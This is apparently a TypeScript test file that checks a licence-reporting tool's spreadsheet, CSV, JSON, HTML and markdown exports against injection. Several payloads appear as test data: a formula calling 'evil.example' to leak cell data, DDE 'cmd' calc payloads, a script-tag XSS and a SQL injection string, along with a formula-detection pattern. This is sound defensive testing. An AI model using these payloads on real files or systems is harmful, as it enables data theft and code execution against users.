/** Hostile names in all five formats: as person, sign-in name, environment, role, team, group, tenant, reason and SKU. */
import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import { z } from 'zod'
import { exportParts } from '../../src/reporters/exports.ts'
import { exportFileName } from '../../src/cli/export-target.ts'
import { acting, hostileList } from '../hostile-names.ts'
import { exportContentOf, findingNamed, writtenBy } from './export-content.ts'
import { readWorkbook } from './xlsx/workbook-reader.ts'

const everything = hostileList.join(' ')
const base = await exportContentOf([])
const content = await exportContentOf(hostileList.map(findingNamed), {
  head: {
    ...base.head,
    tenantName: everything,
    coverage: hostileList.map((name, index) => ({
      source: 'dataverse/security',
      environment: { id: `environment-${index}`, name },
      state: 'not-assessed',
      required: true,
      reason: name,
      fix: name,
    })),
  },
  seats: {
    ...base.seats,
    people: hostileList.map((name, index) => ({
      id: `user-${index}`,
      name,
      upn: name,
      seats: [{ plan: 'digital', skuId: 'sku', via: 'group', group: { id: 'group', name }, since: null }],
      lastSignIn: null,
      environments: null,
      verdict: 'ok',
      saving: null,
    })),
  },
  capacity: {
    ...base.capacity,
    unknownSkus: hostileList.map((name, index) => ({
      skuId: `sku-${index}`,
      skuPartNumber: name,
      plans: [name],
      enabled: 1,
    })),
  },
})

async function textOf(format: 'json' | 'html' | 'markdown'): Promise<string> {
  const [part] = exportParts[format]
  if (part === undefined) throw new Error('no part')
  const { bytes } = await writtenBy(part.write, content)
  return new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes)
}

/** References, figures and the words of a status: nothing of a name. */
const ownFormula = /^[A-Za-z0-9!+*/(),.<>="-]+$/

/** What a spreadsheet takes for a formula (https://owasp.org/www-community/attacks/CSV_Injection). */
const formula = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/u

test('xlsx: names are texts, the XML is sound, and nothing leads elsewhere', async () => {
  const [part] = exportParts.xlsx
  const { bytes } = await writtenBy(part?.write ?? (async () => 0), content)
  const { sheets, files } = readWorkbook(bytes)

  let texts = 0
  for (const { cells, name: sheet } of sheets.values()) {
    for (const { value, type, formula: own } of cells.values()) {
      expect(own === null || (/^(?:summary|pools|terms|seats)$/.test(sheet) && ownFormula.test(own))).toBe(true)
      if (typeof value !== 'string') continue
      expect(['str', 'inlineStr', 's']).toContain(type)
      expect(value.length).toBeLessThanOrEqual(32_767)
      expect(acting.exec(value)).toBeNull()
      texts += 1
    }
  }
  expect(texts).toBeGreaterThan(1000)
  const people = [...(sheets.get('people')?.cells ?? [])].flatMap(([place, { value }]) =>
    /^A\d+$/.test(place) ? [value] : [],
  )
  for (const name of [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '<script>alert(document.domain)</script>',
    "Robert'); DROP TABLE runs;--",
  ]) {
    expect(people).toContain(name)
  }
  expect(people.some((name) => String(name).includes('_x000D_'))).toBe(true)
  for (const [name, file] of files) {
    expect(name).toMatch(
      /^(?:\[Content_Types\]\.xml|_rels\/\.rels|docProps\/\w+\.xml|xl\/(?:workbook|styles)\.xml|xl\/_rels\/workbook\.xml\.rels|xl\/theme\/theme1\.xml|xl\/worksheets\/sheet\d+\.xml)$/,
    )
    expect(String(file)).not.toContain('TargetMode="External"')
  }
})

test.each(exportParts.csv)(
  'csv, $id: no field is a formula, every record is whole, nothing acts',
  async ({ write }) => {
    const { bytes, rows } = await writtenBy(write, content)
    const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes)

    expect(text.startsWith('\ufeff')).toBe(true)
    expect(acting.exec(text.slice(1).replaceAll('\r\n', '\n'))).toBeNull()
    const records = z.array(z.array(z.string())).parse(parse(text, { bom: true, record_delimiter: '\r\n' }))
    expect(records).toHaveLength(rows + 1)
    for (const record of records) {
      expect(record).toHaveLength(records[0]?.length ?? 0)
      const texts = record.filter((field) => !/^-\d+(?:\.\d+)?$/.test(field))
      expect(texts.filter((field) => formula.test(field.trimStart()))).toEqual([])
    }
  },
)

test('csv: a name that would be a formula keeps its characters behind an apostrophe', async () => {
  const people = exportParts.csv.find(({ id }) => id === 'people')
  const { bytes } = await writtenBy(people?.write ?? (async () => 0), content)

  const records = z.array(z.array(z.string())).parse(parse(bytes, { bom: true, record_delimiter: '\r\n' }))
  expect(records.flat()).toContain(`'=HYPERLINK("https://evil.example/?d="&A1,"Click")`)
})

test('json: the same names to the character, and nothing in it acts', async () => {
  const text = await textOf('json')

  expect(acting.exec(text)).toBeNull()
  const { documents } = z
    .looseObject({
      documents: z.tuple(
        [
          z.unknown(),
          z.looseObject({ people: z.array(z.looseObject({ name: z.string() })) }),
          z.looseObject({ findings: z.array(z.looseObject({ subject: z.looseObject({ name: z.string() }) })) }),
        ],
        z.unknown(),
      ),
    })
    .parse(JSON.parse(text))
  expect(documents[1].people.map(({ name }) => name)).toEqual(hostileList)
  expect(documents[2].findings.map(({ subject }) => subject.name)).toEqual(hostileList)
})

const tags =
  'html|head|meta|title|style|body|header|h1|h2|bdi|p|dl|dt|dd|nav|ol|ul|li|a|main|section|div|span|strong|em|code|br|table|caption|thead|tbody|tr|th|td|svg|rect|footer'
const attributes =
  'lang|charset|http-equiv|content|name|class|id|href|scope|role|tabindex|aria-label|aria-labelledby|aria-hidden|viewBox|preserveAspectRatio|width|height|fill'

test('html: only our own tags and attributes, links within the page alone, and nothing acts', async () => {
  const text = await textOf('html')

  expect(acting.exec(text)).toBeNull()
  const body = text.replace(/<style>.*?<\/style>/s, '').replace('<!doctype html>', '')
  for (const [tag, rest = ''] of body.matchAll(/<([^>]*)>?/g)) {
    expect(tag).toMatch(new RegExp(`^</?(?:${tags})(?: (?:${attributes})="[^"<>]*")*/?>$`))
    for (const [, target = ''] of rest.matchAll(/\b(?:href|src)="([^"]*)"/g)) expect(target).toMatch(/^#[\w-]+$/)
  }
  expect(body).toContain('&lt;script&gt;alert(document.domain)&lt;/script&gt;')
  expect(body).toContain("default-src 'none'")
})

describe('markdown', () => {
  test('every row has the cells of its headings; no HTML, link, code or heading of a name', async () => {
    const text = await textOf('markdown')

    expect(acting.exec(text)).toBeNull()
    let cells = 0
    for (const line of text.split('\n')) {
      const bare = line.replaceAll(/\\[!-/:-@[-`{-~]/g, '')
      expect(bare).not.toMatch(/[<>[\]*_~^\\]|https?:\/\/|www\./)
      // Our own commands are code.
      expect(bare.replaceAll(/`seatledger [a-z -]+(?:restricted-table-write-[0-9a-f]+|[a-z-]+)?`/g, '')).not.toContain(
        '`',
      )
      const isRow = line.startsWith('|')
      expect(isRow || /^$|^#{1,2} |^- |^(?!\d+[.)])[^#|=+>-]/.test(line)).toBe(true)
      const count = isRow ? bare.split('|').length : 0
      if (cells === 0 || !isRow) cells = count
      expect(count).toBe(cells)
    }
  })
})

test.each(hostileList)('a generated file name is plain, whatever the tenant is called: %j', (tenantName) => {
  const [part] = exportParts.xlsx
  if (part === undefined) throw new Error('no part')

  expect(exportFileName({ ...base.head, tenantName }, part)).toMatch(
    /^seatledger-[a-z0-9]+(?:-[a-z0-9]+)*-2026-11-24\.xlsx$/,
  )
})
